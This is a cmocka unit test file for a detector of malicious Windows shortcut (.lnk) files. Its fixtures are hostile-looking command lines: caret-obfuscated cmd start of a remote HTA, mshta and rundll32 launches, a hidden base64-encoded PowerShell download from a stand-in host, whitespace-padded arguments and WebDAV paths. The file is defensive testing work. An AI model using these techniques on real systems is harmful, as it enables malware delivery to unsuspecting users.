/* test_lnk.c - shortcuts of Windows: what they start, how they hide it, what they carry. */
#include "exam_test.h"
#include "lnk_test.h"

#include "document/document.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static struct exam_test *t;
static uint8_t room[32768];

static int setup(void **state)
{
	(void)state;
	t = exam_test_new();
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	exam_test_free(t);
	return 0;
}

static void open_lnk(const struct lnk_test *what)
{
	exam_test_open(t, document_lnk, lnk_test_write(what, room, sizeof(room)), "a.lnk");
}

static void expect_nothing(const struct lnk_test *what)
{
	open_lnk(what);
	if (t->exam.found_count)
		exam_test_show(t);
	assert_int_equal(t->exam.found_count, 0);
}

static void interpreter_with_arguments(void **state)
{
	(void)state;
	open_lnk(&(struct lnk_test){ .items = { "Windows", "System32", "cmd.exe" },
				     .arguments = "/c st^art http://192.0.2.1/a.hta" });
	assert_true(exam_test_found(t, FINDING_LNK_COMMAND,
				    "C:\\Windows\\System32\\cmd.exe /c start http://192.0.2.1/a.hta"));
	assert_true(exam_test_url(t, "http://192.0.2.1/a.hta"));
	open_lnk(&(struct lnk_test){ .path = "..\\..\\Windows\\System32\\mshta.exe", .arguments = "x.hta" });
	assert_true(exam_found(&t->exam, FINDING_LNK_COMMAND));
	open_lnk(&(struct lnk_test){ .environment = "%windir%\\system32\\rundll32.exe", .arguments = "a.dll,Start" });
	assert_true(exam_test_found(t, FINDING_LNK_COMMAND, "%windir%\\system32\\rundll32.exe a.dll,Start"));
	open_lnk(&(struct lnk_test){ .items = { "tool.exe" }, .arguments = "|powershell -c calc" });
	assert_true(exam_found(&t->exam, FINDING_LNK_COMMAND));
}

static void plain_shortcuts(void **state)
{
	(void)state;
	expect_nothing(&(struct lnk_test){ .items = { "Users", "taro", "report.docx" }, .path = ".\\report.docx" });
	expect_nothing(&(struct lnk_test){ .items = { "Program Files", "Browser", "browser.exe" },
					   .arguments = "--profile-directory=Default", .icon = "C:\\a.ico" });
	expect_nothing(&(struct lnk_test){ .items = { "Windows", "explorer.exe" }, .arguments = "/e,C:\\Work" });
	expect_nothing(&(struct lnk_test){ .path = "browser.exe", .arguments = "https://a.example/" });
	expect_nothing(&(struct lnk_test){ .path = "\\\\fileserver\\share\\list.xlsx", .icon = "\\\\fileserver\\i.ico" });
}

static void encoded_command_is_decoded(void **state)
{
	(void)state;
	/* "iwr http://a.example/p" */
	open_lnk(&(struct lnk_test){ .path = "powershell.exe",
				     .arguments = "-w hidden -eNc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAA=" });
	assert_true(exam_test_found(t, FINDING_LNK_COMMAND, "iwr http://a.example/p"));
	assert_true(exam_test_url(t, "http://a.example/p"));
}

static void padded_arguments(void **state)
{
	char arguments[600];

	(void)state;
	memset(arguments, ' ', sizeof(arguments));
	memcpy(arguments + 500, "/c calc", 8);
	open_lnk(&(struct lnk_test){ .path = "cmd.exe", .arguments = arguments });
	assert_true(exam_test_found(t, FINDING_LNK_PADDED, "cmd.exe /c calc"));
	open_lnk(&(struct lnk_test){ .path = "cmd.exe", .arguments = "/c    calc" });
	assert_false(exam_found(&t->exam, FINDING_LNK_PADDED));
}

static void elsewhere(void **state)
{
	(void)state;
	open_lnk(&(struct lnk_test){ .path = "\\\\192.0.2.1@80\\DavWWWRoot\\a.exe" });
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "\\\\192.0.2.1@80\\DavWWWRoot\\a.exe"));
	open_lnk(&(struct lnk_test){ .path = "explorer.exe", .arguments = "\"\\\\192.0.2.1\\s\"" });
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "192.0.2.1"));
	open_lnk(&(struct lnk_test){ .items = { "a.pdf" }, .icon = "\\\\files.a.example\\x\\i.ico" });
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "\\\\files.a.example"));
}

static void burden(void **state)
{
	static const char page[] = "\1\2\3<script>new ActiveXObject('x')</script>";
	static uint8_t noise[6000];

	(void)state;
	open_lnk(&(struct lnk_test){ .path = "mshta.exe", .burden = text_span(page) });
	assert_true(exam_found(&t->exam, FINDING_LNK_BURDEN));
	assert_non_null(exam_test_part(t, "burden.hta"));
	open_lnk(&(struct lnk_test){ .path = "a.pdf", .burden = { (const uint8_t *)"PK\3\4................", 20 } });
	assert_true(exam_test_found(t, FINDING_LNK_BURDEN, "20 bytes (zip)"));
	for (size_t i = 0; i < sizeof(noise); i++)
		noise[i] = (uint8_t)(i * 7 % 251);
	open_lnk(&(struct lnk_test){ .path = "a.pdf", .burden = { noise, sizeof(noise) } });
	assert_true(exam_found(&t->exam, FINDING_LNK_BURDEN));
	expect_nothing(&(struct lnk_test){ .path = "a.pdf", .burden = { noise, 8 } });
}

/* Cut anywhere: told, never read beyond. */
static void truncated(void **state)
{
	struct span all = lnk_test_write(&(struct lnk_test){ .items = { "Windows", "cmd.exe" }, .arguments = "/c calc",
							     .environment = "cmd.exe" }, room, sizeof(room));
	uint8_t *copy;

	(void)state;
	for (size_t len = 76; len < all.len; len += 3) {
		copy = test_malloc(len);
		memcpy(copy, all.ptr, len);
		exam_test_open(t, document_lnk, (struct span){ copy, len }, "a.lnk");
		test_free(copy);
	}
	exam_test_open(t, document_lnk, (struct span){ all.ptr, 200 }, "a.lnk");
	assert_int_equal(t->exam.unseen[UNSEEN_BROKEN], 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(interpreter_with_arguments, setup, teardown),
		cmocka_unit_test_setup_teardown(plain_shortcuts, setup, teardown),
		cmocka_unit_test_setup_teardown(encoded_command_is_decoded, setup, teardown),
		cmocka_unit_test_setup_teardown(padded_arguments, setup, teardown),
		cmocka_unit_test_setup_teardown(elsewhere, setup, teardown),
		cmocka_unit_test_setup_teardown(burden, setup, teardown),
		cmocka_unit_test_setup_teardown(truncated, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
